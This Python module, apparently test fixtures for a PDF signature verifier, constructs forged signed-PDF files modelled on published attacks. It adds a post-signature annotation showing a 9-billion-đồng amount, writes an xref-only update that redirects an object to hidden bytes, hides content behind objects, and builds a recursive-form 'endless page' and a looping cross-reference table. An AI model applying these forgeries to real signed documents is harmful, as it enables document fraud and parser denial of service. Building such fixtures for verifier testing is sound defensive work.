"""The forger's tools: what the attack papers do to signed PDFs, made here from scratch.

Sources of the classes: "1 Trillion Dollar Refund" (CCS 2019: incremental saving, signature wrapping, universal
forgery), "Shadow Attacks" (NDSS 2021: hide, replace, hide-and-replace), "Breaking the Specification" (S&P 2021: evil
annotation, sneaky signature on certified files).
"""

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NumberObject,
    StreamObject,
    pdf_name,
    pdf_string,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Change = Callable[[IncrementalPdfFileWriter], None]


def updated(pdf: bytes, change: Change) -> bytes:
    """The file with one incremental update."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def field_named(writer: IncrementalPdfFileWriter, name: str) -> DictionaryObject:
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        if field["/T"] == name:
            assert isinstance(field, DictionaryObject)
            return field
    raise AssertionError(name)


def appearance(writer: IncrementalPdfFileWriter, width: float, height: float, drawing: bytes) -> IndirectObject:
    """A form XObject that draws `drawing`."""
    box = ArrayObject([NumberObject(0), NumberObject(0), FloatObject(width), FloatObject(height)])
    facts = {"/Type": pdf_name("/XObject"), "/Subtype": pdf_name("/Form"), "/BBox": box}
    return writer.add_object(StreamObject({pdf_name(k): v for k, v in facts.items()}, stream_data=drawing))


def add_annotation(subtype: str, box: tuple[float, float, float, float], drawing: bytes) -> Change:
    """An annotation on the first page that shows `drawing`."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        look = appearance(writer, box[2] - box[0], box[3] - box[1], drawing)
        facts = {
            "/Type": pdf_name("/Annot"),
            "/Subtype": pdf_name(subtype),
            "/Rect": ArrayObject(FloatObject(each) for each in box),
            "/F": NumberObject(4),
            "/Contents": pdf_string("9.000.000.000 đồng"),
            "/AP": DictionaryObject({pdf_name("/N"): look}),
        }
        annotation = writer.add_object(DictionaryObject({pdf_name(k): v for k, v in facts.items()}))
        page = writer.find_page_for_modification(0)[0].get_object()
        page[pdf_name("/Annots")] = ArrayObject([*page.get("/Annots", ArrayObject()), annotation])
        writer.update_container(page)

    return change


def xref_only(pdf: bytes, number: int, offset: int) -> bytes:
    """An update that holds no object, only a cross-reference that sends `number` to another place of the file."""
    before = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = re.findall(rb"trailer\s*<<(.*?)>>\s*startxref", pdf, re.DOTALL)[-1]
    kept = re.sub(rb"/Prev\s+\d+", b"", trailer)
    start = len(pdf)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, offset)
    return pdf + table + b"trailer\n<<%s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (kept, before, start)


def endless_page(levels: int = 12, times: int = 20) -> bytes:
    """A page that draws a form 20 times, which draws another 20 times, and so on: 3,600 bytes, for ever."""
    body = b"/F Do " * times
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>/Length %d>>\n"
    last = b"<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Length 15>>\nstream\n0 0 300 300 re f\nendstream"
    drawing = b"stream\n%s\nendstream" % body
    forms = [form % (n + 6, len(body)) + drawing for n in range(levels - 1)]
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    return plain_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", pages, page, b"<</Length %d>>\n%s" % (len(body), drawing), *forms, last
    )


def plain_pdf(*objects: bytes) -> bytes:
    """A file of these objects, numbered from 1; the first is the catalogue. One may bring bytes behind its end."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\n" % (number, body if b"endobj" in body else body + b"\nendobj")
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R/ID[<00><00>]>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def stream(content: bytes) -> bytes:
    return b"<</Length %d>>\nstream\n%s\nendstream" % (len(content), content)


def one_page(content: bytes, behind: bytes = b"") -> bytes:
    """A page with `content` as object 4; `behind` is hidden after that object."""
    words = stream(content) + (b"\nendobj\n" + behind if behind else b"")
    return plain_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        words,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def text(words: str, left: int = 70, bottom: int = 700, size: int = 14) -> bytes:
    return b"BT /F %d Tf %d %d Td (%s) Tj ET" % (size, left, bottom, words.encode())


def endless_table() -> bytes:
    """A file whose cross-reference table is cut off where a reader of fixed lines steps back again and again."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, each) for n, each in enumerate(objects, 1))
    start = b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R/Size 4>>\n"
    return start + b"xref\n0 9\n0000000000 65535 f \n\nstartxref%d\n%%%%EOF" % len(start)
